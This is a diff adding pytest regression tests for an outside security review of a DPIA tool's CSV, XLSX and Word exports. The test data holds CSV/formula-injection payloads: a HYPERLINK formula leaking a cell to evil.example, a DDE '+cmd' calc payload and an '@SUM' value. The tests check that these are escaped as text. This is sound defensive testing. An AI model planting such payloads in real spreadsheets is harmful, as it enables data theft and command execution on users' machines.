@@ -1,0 +1,83 @@
+"""Outside review, session 3 (/work/attack-findings/session3.md): each test reproduces one finding through
+the command line and fails on the code as it was found."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+
+import openpyxl
+import pytest
+
+from app.cli import main
+from tests.helpers.working_copy import working_copy
+
+SCENARIO = "supermarket_watchlist_nl"
+HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'
+
+
+def _edited(tmp_path: Path, name: str = "a.dpia", **changes: object) -> Path:
+    path = working_copy(tmp_path, SCENARIO, name)
+    data = json.loads(path.read_text(encoding="utf-8"))
+    for key, value in changes.items():
+        data[key] = value
+    path.write_text(json.dumps(data), encoding="utf-8")
+    return path
+
+
+def _hostile_plan(tmp_path: Path) -> Path:
+    measure = {
+        "id": "m1",
+        "title": HOSTILE,
+        "description": "+cmd|' /C calc'!A0 and a Word line break\x0bhere",
+        "owner": "@SUM(1+1)",
+        "risks": ["unlawful_special_category"],
+    }
+    return _edited(tmp_path, measures=[measure])
+
+
+# -- finding 1: formula injection in the CSV and XLSX exports ------------------------------------------
+
+
+def test_xlsx_keeps_a_formula_like_title_as_text(tmp_path: Path) -> None:
+    source, out = _hostile_plan(tmp_path), tmp_path / "plan.xlsx"
+    assert main(["export", str(source), "--format", "xlsx", "-o", str(out)]) == 0
+    sheet = openpyxl.load_workbook(out)["Action plan"]
+    title, description, owner = sheet["B2"], sheet["C2"], sheet["E2"]
+    assert (title.data_type, title.value) == ("s", HOSTILE)
+    assert title.quotePrefix
+    assert owner.data_type == "s"
+    assert "\x0b" not in description.value and description.value.endswith("line break here")
+
+
+def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
+    source, out = _hostile_plan(tmp_path), tmp_path / "register.csv"
+    assert main(["export", str(source), "--format", "csv", "-o", str(out)]) == 0
+    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
+    cells = [value for row in rows for value in row.values()]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
+    special = next(r for r in rows if r["risk_id"] == "unlawful_special_category")
+    assert special["measures"] == "'" + HOSTILE
+
+
+# -- finding 2: control characters and long titles break the Word export ----------------------------------
+
+
+@pytest.mark.parametrize(
+    "metadata",
+    [{"title": "Entrance cameras\x0bsecond line\x0cpage"}, {"title": "T" * 400, "assessor": "A" * 300}],
+)
+def test_docx_export_survives_control_characters_and_long_titles(tmp_path: Path, metadata: dict) -> None:
+    import docx
+
+    source = _edited(tmp_path, metadata=metadata)
+    data = json.loads(source.read_text(encoding="utf-8"))
+    data["notes"] = {"fr_function": {"text": "pasted from Word:\x0bnext line\x01"}}
+    source.write_text(json.dumps(data), encoding="utf-8")
+    out = tmp_path / "report.docx"
+    assert main(["export", str(source), "--format", "docx", "-o", str(out)]) == 0
+    document = docx.Document(str(out))
+    assert len(document.core_properties.title) <= 255
+    assert "second line" in document.core_properties.title or "T" * 100 in document.core_properties.title
